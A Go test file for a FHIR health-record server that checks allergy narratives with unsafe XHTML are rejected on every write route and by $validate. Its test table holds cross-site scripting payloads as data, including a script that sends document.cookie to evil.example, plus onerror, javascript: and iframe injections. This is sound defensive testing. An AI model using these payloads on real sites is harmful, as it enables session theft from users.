package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kjernejournal/kjernejournal/fhir"
	"github.com/kjernejournal/kjernejournal/internal/domain"
	"github.com/kjernejournal/kjernejournal/internal/store"
)

// withNarrative sets text (status generated, the div given) on a resource
// and, when contained is not "", a contained Practitioner with that div.
func withNarrative(t *testing.T, body []byte, div, contained string) []byte {
	t.Helper()
	var m map[string]any
	require.NoError(t, json.Unmarshal(body, &m))
	m["text"] = map[string]any{"status": "generated", "div": div}
	if contained != "" {
		m["contained"] = []any{map[string]any{"resourceType": "Practitioner", "id": "p1",
			"text": map[string]any{"status": "generated", "div": contained}}}
	}
	b, err := json.Marshal(m)
	require.NoError(t, err)
	return b
}

func noteOr(s string) string {
	if s == "" {
		return "penicillin"
	}
	return s
}

// TestNarrativeRulesOnEveryWrite: a narrative with active content or that
// is not the XHTML R4 allows, and HTML markup in a plain string, are
// refused on create, update, batch and transaction entries, and by
// $validate, naming the rule (txt-1/txt-2) and the element; a clean
// narrative is stored.
func TestNarrativeRulesOnEveryWrite(t *testing.T) {
	forEachEngine(t, func(t *testing.T, _ *client, st store.Store) {
		s := newSecured(t, st)
		codec, err := fhir.NewCodec(domain.RecordTypes()...)
		require.NoError(t, err)
		const div = `<div xmlns="http://www.w3.org/1999/xhtml">`
		bad := []struct {
			name, div, contained, rule, element, says string
			note                                      string // the code's text; "" for "penicillin"
		}{
			{"script", div + `Penicillin<script>fetch('https://evil.example/'+document.cookie)</script></div>`, "", "txt-1", "AllergyIntolerance.text.div", "<script>", ""},
			{"event handler", div + `<img src="x.png" onerror="alert(1)"/></div>`, "", "txt-1", "AllergyIntolerance.text.div", "onerror", ""},
			{"javascript link", div + `<a href="javascript:alert(1)">open</a></div>`, "", "txt-1", "AllergyIntolerance.text.div", "javascript", ""},
			{"HTML entity", div + `CPT&reg;</div>`, "", "txt-1", "AllergyIntolerance.text.div", "&reg;", ""},
			{"no xmlns", `<div>Penicillin</div>`, "", "txt-1", "AllergyIntolerance.text.div", "xmlns", ""},
			{"no content", div + ` </div>`, "", "txt-2", "AllergyIntolerance.text.div", "no content", ""},
			{"in a contained resource", div + `Penicillin</div>`, div + `<iframe src="https://evil.example"/></div>`, "txt-1", "AllergyIntolerance.contained[0].text.div", "<iframe>", ""},
			{"markup in a string", div + `Penicillin</div>`, "", "HTML markup", "AllergyIntolerance.code.text", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"},
		}
		n := 300
		for _, r := range writeRoutes {
			t.Run(r.name, func(t *testing.T) {
				n++
				p := fmt.Sprintf("nar-pat-%d", n)
				pb := []byte(strings.Replace(string(patientJSON(t, n, p)), "565501872", gpPersonaHPR, 1))
				s.put(t, codec, pb)
				tok := s.token("gp", p)
				for _, b := range bad {
					body := withNarrative(t, clinical("AllergyIntolerance", p, "", noteOr(b.note)), b.div, b.contained)
					for _, w := range []write{{method: "POST", url: "AllergyIntolerance", body: body},
						{method: "PUT", url: "AllergyIntolerance/nar-ai-" + p, body: setField(t, body, "id", "nar-ai-"+p)}} {
						got := r.send(s, tok, "UNNTAK", w)
						require.Equal(t, http.StatusBadRequest, got.status, "%s %s with %s: %v", w.method, w.url, b.name, got.body)
						d := got.diagnostics()
						assert.Contains(t, d, b.rule, b.name)
						assert.Contains(t, d, b.element, b.name)
						assert.Contains(t, d, b.says, b.name)
					}
				}
				body := withNarrative(t, clinical("AllergyIntolerance", p, "", "penicillin"),
					div+`<p><b>Penicillin</b>: anaphylaxis &lt; 1 hour</p><a href="https://www.legemiddelverket.no">SLV</a></div>`, "")
				got := r.send(s, tok, "UNNTAK", write{method: "POST", url: "AllergyIntolerance", body: body})
				require.Equal(t, http.StatusCreated, got.status, "a clean narrative: %v", got.body)
			})
		}
		t.Run("$validate", func(t *testing.T) {
			n++
			p := fmt.Sprintf("nar-pat-%d", n)
			tok := s.token("gp", p)
			for _, b := range bad {
				body := withNarrative(t, clinical("AllergyIntolerance", p, "", noteOr(b.note)), b.div, b.contained)
				for _, q := range []string{"", "?profile=http://hl7.org/fhir/StructureDefinition/AllergyIntolerance"} {
					r := s.as_(tok, "UNNTAK", "POST", "/AllergyIntolerance/$validate"+q, body)
					require.Equal(t, http.StatusOK, r.status, "%s", r.body)
					assert.Contains(t, string(r.body), `"severity":"error"`, "%s%s: %s", b.name, q, r.body)
					assert.Contains(t, string(r.body), b.element, "%s%s", b.name, q)
					assert.Contains(t, string(r.body), b.rule, "%s%s", b.name, q)
				}
			}
		})
	})
}
